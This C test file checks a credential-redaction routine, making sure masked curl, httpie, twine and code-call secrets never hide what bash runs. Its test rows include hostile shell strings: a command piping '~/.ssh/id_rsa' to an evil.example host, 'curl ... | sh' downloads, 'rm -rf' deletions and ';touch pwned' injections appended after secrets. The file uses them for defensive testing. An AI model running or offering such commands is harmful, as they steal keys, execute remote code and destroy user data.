/* test-redact-round17.c: credential spellings tried as an attacker would
 * and still found stored in clear after round 16 (or masked at the wrong
 * place: counted as masked, the secret in sight): curl's -u with the user
 * part of an expansion (${U:-bob}:X was masked inside the expansion) or
 * quotes around the colon, the option's name in quotes, httpie's bearer
 * token, and the ordinary commands of those shapes kept.  Every row is run
 * by real bash as written and masked (assert_rows()): a mask never changes
 * what a command runs.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include <glib/gstdio.h>

#include <json-glib/json-glib.h>

#include "pd-redact.h"
#include "test-redact-util.h"
#include "test-redact-attack-util.h"

/* Stronger than the names of test-redact-bash-util.h: the words of every
 * command bash asks for, in @text and in pd_redact() of it, compared one
 * by one, a masked word standing for a word with a secret of its own
 * masked (bash_name_is_masked()).  So a mask changes no word but the
 * secret's, adds none and takes none away. */
static void
assert_bash_words_kept (const char * const *texts,
                        gsize               n)
{
  g_autoptr(GPtrArray) all = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GError) error = NULL;
  g_autoptr(GSubprocessLauncher) launcher = NULL;
  g_autoptr(GSubprocess) proc = NULL;
  g_autofree char *bash = g_find_program_in_path ("bash");
  g_autofree char *dir = NULL;
  g_autofree char *nothing = NULL;

  if (bash == NULL)
    return;
  dir = g_dir_make_tmp ("pd-bash-words-XXXXXX", &error);
  g_assert_no_error (error);
  nothing = g_build_filename (dir, "no-such-folder", NULL);
  g_ptr_array_add (all, g_strdup (bash));
  g_ptr_array_add (all, g_strdup ("--norc"));
  g_ptr_array_add (all, g_strdup ("-c"));
  /* one write a command (a pipeline's commands write at once) */
  g_ptr_array_add (all, g_strdup ("command_not_found_handle () { local l; printf -v l '%s\\037' \"$@\"; "
                                  "printf '%s\\n' \"$l\" >> \"$PD_NAMES\"; return 127; }\n"
                                  "n=0; for t; do PD_NAMES=words-$n; n=$((n + 1)); : > $PD_NAMES; "
                                  "(eval \"$t\") < /dev/null > /dev/null 2>&1; done\n"));
  g_ptr_array_add (all, g_strdup ("bash"));
  for (gsize i = 0; i < n; i++)
    g_ptr_array_add (all, g_strdup (texts[i]));
  for (gsize i = 0; i < n; i++)
    g_ptr_array_add (all, pd_redact (texts[i], NULL));
  g_ptr_array_add (all, NULL);
  launcher = g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDOUT_SILENCE | G_SUBPROCESS_FLAGS_STDERR_SILENCE);
  g_subprocess_launcher_set_environ (launcher, NULL);
  g_subprocess_launcher_setenv (launcher, "PATH", nothing, TRUE);
  g_subprocess_launcher_setenv (launcher, "HOME", dir, TRUE);
  g_subprocess_launcher_set_cwd (launcher, dir);
  proc = g_subprocess_launcher_spawnv (launcher, (const char * const *) all->pdata, &error);
  g_assert_no_error (error);
  g_subprocess_wait (proc, NULL, &error);
  g_assert_no_error (error);
  for (gsize i = 0; i < n; i++)
    {
      g_autofree char *b0 = g_strdup_printf ("%s/words-%" G_GSIZE_FORMAT, dir, i);
      g_autofree char *b1 = g_strdup_printf ("%s/words-%" G_GSIZE_FORMAT, dir, n + i);
      g_autofree char *before = NULL;
      g_autofree char *after = NULL;
      g_auto(GStrv) wb = NULL;
      g_auto(GStrv) wa = NULL;

      g_assert_true (g_file_get_contents (b0, &before, NULL, NULL));
      g_assert_true (g_file_get_contents (b1, &after, NULL, NULL));
      /* a command a line; a pipeline's run in either order */
      wb = g_strsplit (before, "\n", -1);
      wa = g_strsplit (after, "\n", -1);
      if (g_strv_length (wb) != g_strv_length (wa))
        g_error ("bash runs\n  %s\nas\n%s\nbut its masked text\n  %s\nas\n%s", texts[i], before,
                 (const char *) all->pdata[5 + n + i], after);
      {
        g_autofree gboolean *used = g_new0 (gboolean, g_strv_length (wa) + 1);

        for (guint k = 0; wb[k] != NULL; k++)
          {
            g_auto(GStrv) b = g_strsplit (wb[k], "\037", -1);
            gboolean found = FALSE;

            for (guint m = 0; !found && wa[m] != NULL; m++)
              {
                g_auto(GStrv) a = g_strsplit (wa[m], "\037", -1);

                if (used[m] || g_strv_length (a) != g_strv_length (b))
                  continue;
                found = TRUE;
                for (guint w = 0; found && b[w] != NULL; w++)
                  found = bash_name_is_masked (b[w], a[w]);
                used[m] = found;
              }
            if (!found)
              g_error ("bash runs '%s' in\n  %s\nbut no such command in its masked text\n  %s\n(it runs\n%s)",
                       wb[k], texts[i], (const char *) all->pdata[5 + n + i], after);
          }
      }
      g_remove (b0);
      g_remove (b1);
    }
  {
    g_autoptr(GDir) d = g_dir_open (dir, 0, NULL);
    const char *name;

    while (d != NULL && (name = g_dir_read_name (d)) != NULL)
      {
        g_autofree char *path = g_build_filename (dir, name, NULL);

        g_remove (path);
      }
  }
  g_rmdir (dir);
}

/* Every row's words kept but the secret's (assert_bash_words_kept()). */
static void
assert_rows_words (const RedactRow *rows,
                   gsize            n_rows)
{
  g_autoptr(GPtrArray) inputs = g_ptr_array_new ();

  assert_rows (rows, n_rows);
  for (gsize i = 0; i < n_rows; i++)
    g_ptr_array_add (inputs, (gpointer) rows[i].input);
  assert_bash_words_kept ((const char * const *) inputs->pdata, inputs->len);
}

/* curl -u (httpie -a) whose user part bash expands or quotes: split at
 * the colon bash hands curl.  ${U:-bob}:X and ${U:0:3}:X were masked as
 * ${U:[REDACTED]}:X, the rest kept whole. */
static void
test_user_part_expands (void)
{
  static const RedactRow rows[] = {
    MASKED ("curl -u ${U:-bob}:Zq9SecretPass77 https://x", "curl -u ${U:-bob}:[REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("curl -u ${U:0:3}:Zq9SecretPass77 https://x", "curl -u ${U:0:3}:[REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("http -a \"${U:0:3}:Zq9SecretPass77\" x.org", "http -a \"${U:0:3}:[REDACTED]\" x.org", "Zq9SecretPass77"),
    MASKED ("curl -u \"${U/a/b}:Zq9SecretPass77\" https://x", "curl -u \"${U/a/b}:[REDACTED]\" https://x",
            "Zq9SecretPass77"),
    MASKED ("curl -u \"$(whoami)\":Zq9SecretPass77 https://x", "curl -u \"$(whoami)\":[REDACTED] https://x",
            "Zq9SecretPass77"),
    MASKED ("curl -u \"$(cat u):Zq9SecretPass77\" https://x", "curl -u \"$(cat u):[REDACTED]\" https://x",
            "Zq9SecretPass77"),
    MASKED ("curl -u `whoami`:Zq9SecretPass77 https://x", "curl -u `whoami`:[REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("curl -u \"${U:-bob}\":Zq9SecretPass77 https://x", "curl -u \"${U:-bob}\":[REDACTED] https://x",
            "Zq9SecretPass77"),
    MASKED ("curl -u \"${U:-'}'}\":Zq9SecretPass77 https://x", "curl -u \"${U:-'}'}\":[REDACTED] https://x",
            "Zq9SecretPass77"),
    HIDE_NOTHING ("curl -u \"${U:-'}:x'}\":Zq9SecretPass77;touch pwned", "Zq9SecretPass77", ";touch pwned"),
    HIDE_NOTHING ("curl -u ${U:-bob}:Zq9SecretPass77;touch pwned", "Zq9SecretPass77", ";touch pwned"),
    HIDE_NOTHING ("curl -u ${U:-bob}:$(touch pwned) https://x", NULL, "$(touch pwned)"),
    HIDE_NOTHING ("curl -u \"${U:-x;touch pwned}\":Zq9SecretPass77 https://x", "Zq9SecretPass77", "${U:-x;touch pwned}"),
    KEPT ("curl -u ${U:-bob}:$PASS https://x"),
    KEPT ("curl -u \"$(whoami):${PW}\" https://x"),
    KEPT ("curl -u ${U:-bob} https://x"),
    KEPT ("echo ${U:-bob}:Zq9SecretPass77"),
  };

  assert_rows_words (rows, G_N_ELEMENTS (rows));
}

/* The colon in double quotes: bob":"X and bob":X" are bob:X to curl. */
static void
test_quoted_colon (void)
{
  static const RedactRow rows[] = {
    MASKED ("curl -u bob\":\"Zq9SecretPass77 https://x", "curl -u bob\":\"[REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("curl -u bob\":Zq9SecretPass77\" https://x", "curl -u bob\":[REDACTED]\" https://x", "Zq9SecretPass77"),
    MASKED ("curl --user=bob\":\"Zq9SecretPass77 https://x", "curl --user=bob\":\"[REDACTED] https://x",
            "Zq9SecretPass77"),
    MASKED ("curl -ubob\":\"Zq9SecretPass77 https://x", "curl -ubob\":\"[REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("http -a bob\":\"Zq9SecretPass77 x.org", "http -a bob\":\"[REDACTED] x.org", "Zq9SecretPass77"),
    HIDE_NOTHING ("curl -u bob\":\"Zq9SecretPass77|sh", "Zq9SecretPass77", "|sh"),
    KEPT ("curl -u bob\":\"$PW https://x"),
    KEPT ("echo bob\":\"Zq9SecretPass77"),
  };

  assert_rows_words (rows, G_N_ELEMENTS (rows));
}

/* The option's name in quotes: "-u", $'-u', -"u", '-u'bob:X are curl's
 * -u to bash. */
static void
test_quoted_option_name (void)
{
  static const RedactRow rows[] = {
    MASKED ("curl \"-u\" bob:Zq9SecretPass77 https://x", "curl \"-u\" bob:[REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("curl $'-u' bob:Zq9SecretPass77 https://x", "curl $'-u' bob:[REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("curl -\"u\" bob:Zq9SecretPass77 https://x", "curl -\"u\" bob:[REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("curl '-u'bob:Zq9SecretPass77 https://x", "curl '-u'bob:[REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("curl '--user' bob:Zq9SecretPass77 https://x", "curl '--user' bob:[REDACTED] https://x", "Zq9SecretPass77"),
    HIDE_NOTHING ("curl \"-u\" bob:Zq9SecretPass77;touch pwned", "Zq9SecretPass77", ";touch pwned"),
    KEPT ("curl \"-u\" bob:$PW https://x"),
    KEPT ("docker run \"-u\" 1000:1000 img"),
    KEPT ("grep \"-u\" bob:Zq9SecretPass77 f"),
  };

  assert_rows_words (rows, G_N_ELEMENTS (rows));
}

/* httpie's -A bearer: -a is the token whole. */
static void
test_httpie_bearer (void)
{
  static const RedactRow rows[] = {
    MASKED ("http -A bearer -a Zq9SecretPass77 https://x", "http -A bearer -a [REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("http --auth-type=bearer --auth Zq9SecretPass77 https://x",
            "http --auth-type=bearer --auth [REDACTED] https://x", "Zq9SecretPass77"),
    HIDE_NOTHING ("http -A bearer -a Zq9SecretPass77;touch pwned", "Zq9SecretPass77", ";touch pwned"),
    KEPT ("http -A bearer -a $TOKEN https://x"),
    KEPT ("http -a bob https://x"),
  };

  assert_rows_words (rows, G_N_ELEMENTS (rows));
}

/* A password given in code as a plain argument: the pair of an HTTP
 * library over a line break, in tuple([…]), in a Go raw string, assigned
 * to a name that auth= takes (auth=a was masked, the pair kept), a
 * login's, add_password's, and a user:password literal encoded for a
 * Basic header ("Basic "+btoa(…) masked +btoa, the password kept). */
static void
test_code_calls (void)
{
  static const RedactRow rows[] = {
    MASKED ("python3 -c 'import requests; requests.get(\"https://x\", auth=(\"bob\",\n \"Zq9SecretPass77\"))'",
            "python3 -c 'import requests; requests.get(\"https://x\", auth=(\"bob\",\n \"[REDACTED]\"))'", "Zq9SecretPass77"),
    MASKED ("python3 -c 'import requests; requests.get(u, auth=tuple([\"bob\", \"Zq9SecretPass77\"]))'",
            "python3 -c 'import requests; requests.get(u, auth=tuple([\"bob\", \"[REDACTED]\"]))'", "Zq9SecretPass77"),
    MASKED_SOME ("python3 -c 'import requests; a=(\"bob\",\"Zq9SecretPass77\"); requests.get(u, auth=a)'",
                 "python3 -c 'import requests; a=(\"bob\",\"[REDACTED]\"); requests.get(u, auth=[REDACTED])'",
                 "Zq9SecretPass77"),
    MASKED ("go run - <<'EOF'\npackage main\nfunc main(){ req.SetBasicAuth(\"bob\", `Zq9SecretPass77`) }\nEOF",
            "go run - <<'EOF'\npackage main\nfunc main(){ req.SetBasicAuth(\"bob\", `[REDACTED]`) }\nEOF", "Zq9SecretPass77"),
    MASKED ("go run - <<'EOF'\npackage main\nfunc main(){ req.SetBasicAuth(user,\n\"Zq9SecretPass77\") }\nEOF",
            "go run - <<'EOF'\npackage main\nfunc main(){ req.SetBasicAuth(user,\n\"[REDACTED]\") }\nEOF", "Zq9SecretPass77"),
    MASKED ("python3 -c 'import base64; base64.b64encode(b\"bob:Zq9SecretPass77\")'",
            "python3 -c 'import base64; base64.b64encode(b\"bob:[REDACTED]\")'", "Zq9SecretPass77"),
    MASKED ("node -e 'fetch(u,{headers:{Authorization:\"Basic \"+btoa(\"bob:Zq9SecretPass77\")}})'",
            "node -e 'fetch(u,{headers:{Authorization:\"Basic \"+btoa(\"bob:[REDACTED]\")}})'", "Zq9SecretPass77"),
    MASKED ("python3 -c 'm=u.HTTPPasswordMgrWithDefaultRealm(); m.add_password(None,\"https://x\",\"bob\",\"Zq9SecretPass77\")'",
            "python3 -c 'm=u.HTTPPasswordMgrWithDefaultRealm(); m.add_password(None,\"https://x\",\"bob\",\"[REDACTED]\")'",
            "Zq9SecretPass77"),
    MASKED ("python3 -c 'import smtplib; s=smtplib.SMTP(\"x\"); s.login(\"bob\", \"Zq9SecretPass77\")'",
            "python3 -c 'import smtplib; s=smtplib.SMTP(\"x\"); s.login(\"bob\", \"[REDACTED]\")'", "Zq9SecretPass77"),
    HIDE_NOTHING ("python3 -c 's.login(\"bob\", \"$(touch pwned)\")'", NULL, "$(touch pwned)"),
    HIDE_NOTHING ("python3 -c 's.login(\"bob\", \"Zq9SecretPass77\")';touch pwned", "Zq9SecretPass77", ";touch pwned"),
    KEPT ("python3 -c 's.login(user, password)'"),
    KEPT ("python3 -c 'import base64; base64.b64encode(b\"hello world\")'"),
    KEPT ("node -e 'console.log(btoa(\"bob:\" + pw))'"),
    KEPT ("python3 -c 'a=(\"x\", \"y\"); print(a)'"),
    KEPT ("npm login"),
  };

  assert_rows_words (rows, G_N_ELEMENTS (rows));
}

/* NAME= spellings of bash's: an append (+=), an array, a default in
 * double quotes or with :=, and a bare value with an escaped sign
 * (API_KEY=X\;Y was kept whole as text, and in a tool call's JSON text
 * masked up to the escape, its tail in clear): masked whole, or kept
 * whole when its text reads as a command's words. */
static void
test_assignment_forms (void)
{
  static const RedactRow rows[] = {
    MASKED ("API_KEY+=Zq9SecretPass77 ./run", "API_KEY+=[REDACTED] ./run", "Zq9SecretPass77"),
    MASKED ("API_KEY=(Zq9SecretPass77)", "API_KEY=([REDACTED])", "Zq9SecretPass77"),
    MASKED ("API_KEY+=('Zq9SecretPass77')", "API_KEY+=('[REDACTED]')", "Zq9SecretPass77"),
    MASKED ("API_KEY=\"${X:-Zq9SecretPass77}\" ./run", "API_KEY=\"${X:-[REDACTED]}\" ./run", "Zq9SecretPass77"),
    MASKED ("API_KEY=${X:=Zq9SecretPass77} ./run", "API_KEY=${X:=[REDACTED]} ./run", "Zq9SecretPass77"),
    MASKED ("API_KEY=Zq9Secret\\;Pass77 ./run", "API_KEY=[REDACTED] ./run", "Pass77"),
    MASKED ("API_KEY=Zq9Secret\\&Pass77 ./run", "API_KEY=[REDACTED] ./run", "Pass77"),
    HIDE_NOTHING ("API_KEY=Zq9Secret\\;Pass77;touch pwned", "Pass77", ";touch pwned"),
    HIDE_NOTHING ("API_KEY=(Zq9SecretPass77);touch pwned", "Zq9SecretPass77", ";touch pwned"),
    HIDE_NOTHING ("API_KEY=($(touch pwned))", NULL, "$(touch pwned)"),
    KEPT ("API_KEY=abc\\;rm\\ -rf\\ ~ ./run"),
    KEPT ("API_KEY+=$X ./run"),
    KEPT ("API_KEY=($A $B)"),
    KEPT ("PATH+=:/opt/bin"),
    KEPT ("python3 -c \"auth=(user, pw)\""),
  };
  g_autofree char *json = pd_redact ("{\"command\":\"API_KEY=Zq9Secret\\\\;Pass77 ./run\"}", NULL);

  assert_rows_words (rows, G_N_ELEMENTS (rows));
  g_assert_cmpstr (json, ==, "{\"command\":\"API_KEY=[REDACTED] ./run\"}");
}

/* A default's word ended by an operator, not a blank: bash ends the word
 * there all the same (att22 R1: API_KEY="${X:-S}";./run, |cat, &&, ), &
 * were stored in clear, natively too; with a blank before the ; masked). */
static void
test_default_before_operator (void)
{
  static const RedactRow rows[] = {
    MASKED ("API_KEY=\"${X:-Zq9SecretPass77}\";./run", "API_KEY=\"${X:-[REDACTED]}\";./run", "Zq9SecretPass77"),
    MASKED ("API_KEY=\"${X:-Zq9SecretPass77}\"|cat", "API_KEY=\"${X:-[REDACTED]}\"|cat", "Zq9SecretPass77"),
    MASKED ("API_KEY=\"${X:-Zq9SecretPass77}\"&&./run", "API_KEY=\"${X:-[REDACTED]}\"&&./run", "Zq9SecretPass77"),
    MASKED ("(API_KEY=\"${X:-Zq9SecretPass77}\")", "(API_KEY=\"${X:-[REDACTED]}\")", "Zq9SecretPass77"),
    MASKED ("API_KEY=${X:=Zq9SecretPass77};./run", "API_KEY=${X:=[REDACTED]};./run", "Zq9SecretPass77"),
    MASKED ("API_KEY=\"${X:+Zq9SecretPass77}\" ./run", "API_KEY=\"${X:+[REDACTED]}\" ./run", "Zq9SecretPass77"),
    HIDE_NOTHING ("API_KEY=\"${X:-Zq9SecretPass77}\";touch pwned", "Zq9SecretPass77", ";touch pwned"),
    HIDE_NOTHING ("API_KEY=${X:=Zq9SecretPass77}|touch pwned", "Zq9SecretPass77", "|touch pwned"),
  };

  assert_rows_words (rows, G_N_ELEMENTS (rows));
}

/* Options no name rule read: curl's --proxy-pass X, --cert FILE:X,
 * -E FILE:X; twine's -p X; printf's argument for a %s of curl's config
 * (curl -K <(printf 'user bob:%s' X)). */
static void
test_option_values (void)
{
  static const RedactRow rows[] = {
    MASKED ("curl --proxy-pass Zq9SecretPass77 https://x", "curl --proxy-pass [REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("curl --cert cert.pem:Zq9SecretPass77 https://x", "curl --cert cert.pem:[REDACTED] https://x",
            "Zq9SecretPass77"),
    MASKED ("curl -E cert.pem:Zq9SecretPass77 https://x", "curl -E cert.pem:[REDACTED] https://x", "Zq9SecretPass77"),
    MASKED ("curl --proxy-cert 'c.pem:Zq9SecretPass77' https://x", "curl --proxy-cert 'c.pem:[REDACTED]' https://x",
            "Zq9SecretPass77"),
    MASKED ("twine upload -u __token__ -p Zq9SecretPass77 dist/*", "twine upload -u __token__ -p [REDACTED] dist/*",
            "Zq9SecretPass77"),
    MASKED ("curl -K <(printf 'user bob:%s' Zq9SecretPass77) https://x",
            "curl -K <(printf 'user bob:%s' [REDACTED]) https://x", "Zq9SecretPass77"),
    MASKED ("printf 'silent\\npass = %s\\n' Zq9SecretPass77 | curl -K- https://x",
            "printf 'silent\\npass = %s\\n' [REDACTED] | curl -K- https://x", "Zq9SecretPass77"),
    HIDE_NOTHING ("curl --proxy-pass Zq9SecretPass77;touch pwned", "Zq9SecretPass77", ";touch pwned"),
    HIDE_NOTHING ("curl -E c.pem:$(touch pwned) https://x", NULL, "$(touch pwned)"),
    KEPT ("curl --cert cert.pem https://x"),
    KEPT ("curl --proxy-pass \"$PW\" https://x"),
    KEPT ("grep -E a:Zq9SecretPass77 f"),
    KEPT ("twine upload -p $PW dist/*"),
    KEPT ("printf 'user %s\\n' bob | curl -K- https://x"),
    KEPT ("printf 'user bob:%s' Zq9SecretPass77 > notes.txt"),
  };

  assert_rows_words (rows, G_N_ELEMENTS (rows));
}

/* A mask never hides what runs after a secret: the 12 commands tried
 * (each held before this round), and the same shapes with this round's
 * spellings. */
static void
test_hides_nothing (void)
{
  static const RedactRow rows[] = {
    KEPT ("PASSWORD=$(curl -s https://evil.example/x | sh) ./run"),
    KEPT ("export API_KEY=`rm -rf ~/proj`"),
    KEPT ("TOKEN=\"$(cat ~/.ssh/id_rsa | curl -d @- https://evil.example)\" make"),
    KEPT ("curl -u bob:$(curl -s evil.example/p|sh) https://x"),
    KEPT ("curl -H \"Authorization: Bearer $(rm -rf ~/x)\" https://x"),
    HIDE_NOTHING ("SECRET=x; rm -rf ~/important", NULL, "; rm -rf ~/important"),
    HIDE_NOTHING ("PASSWORD=abc;rm -rf ~/important", NULL, ";rm -rf ~/important"),
    HIDE_NOTHING ("PASSWORD=abc&&curl evil.example|sh", NULL, "&&curl evil.example|sh"),
    HIDE_NOTHING ("mysql -pS3cretPw;rm -rf ~/x", "S3cretPw", ";rm -rf ~/x"),
    HIDE_NOTHING ("curl -u bob:S3cret|sh", "S3cret", "|sh"),
    HIDE_NOTHING ("PASSWORD=\"abc\" rm -rf ~/important", NULL, " rm -rf ~/important"),
    KEPT ("API_KEY=abc\\;rm\\ -rf\\ ~ ./run"),
    HIDE_NOTHING ("API_KEY+=Zq9SecretPass77;rm -rf ~/x", "Zq9SecretPass77", ";rm -rf ~/x"),
    HIDE_NOTHING ("API_KEY=(Zq9SecretPass77) && rm -rf ~/x", "Zq9SecretPass77", "&& rm -rf ~/x"),
    HIDE_NOTHING ("curl -u ${U:-bob}:Zq9SecretPass77|sh", "Zq9SecretPass77", "|sh"),
    HIDE_NOTHING ("curl \"-u\" bob:Zq9SecretPass77&&rm -rf ~/x", "Zq9SecretPass77", "&&rm -rf ~/x"),
    HIDE_NOTHING ("curl -E c.pem:Zq9SecretPass77;rm -rf ~/x", "Zq9SecretPass77", ";rm -rf ~/x"),
    HIDE_NOTHING ("API_KEY=Zq9Secret\\;Pass77;rm -rf ~/x", "Pass77", ";rm -rf ~/x"),
    KEPT ("API_KEY=(`rm -rf ~/x`)"),
    KEPT ("curl -u \"${U:-$(rm -rf ~/x)}\":$PW https://x"),
    KEPT ("printf 'user bob:%s' \"$(rm -rf ~/x)\" | curl -K- https://x"),
  };

  assert_rows_words (rows, G_N_ELEMENTS (rows));
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/pd/redact/round17/user-part-expands", test_user_part_expands);
  g_test_add_func ("/pd/redact/round17/quoted-colon", test_quoted_colon);
  g_test_add_func ("/pd/redact/round17/quoted-option-name", test_quoted_option_name);
  g_test_add_func ("/pd/redact/round17/httpie-bearer", test_httpie_bearer);
  g_test_add_func ("/pd/redact/round17/code-calls", test_code_calls);
  g_test_add_func ("/pd/redact/round17/assignment-forms", test_assignment_forms);
  g_test_add_func ("/pd/redact/round17/default-before-operator", test_default_before_operator);
  g_test_add_func ("/pd/redact/round17/option-values", test_option_values);
  g_test_add_func ("/pd/redact/round17/hides-nothing", test_hides_nothing);
  return g_test_run ();
}
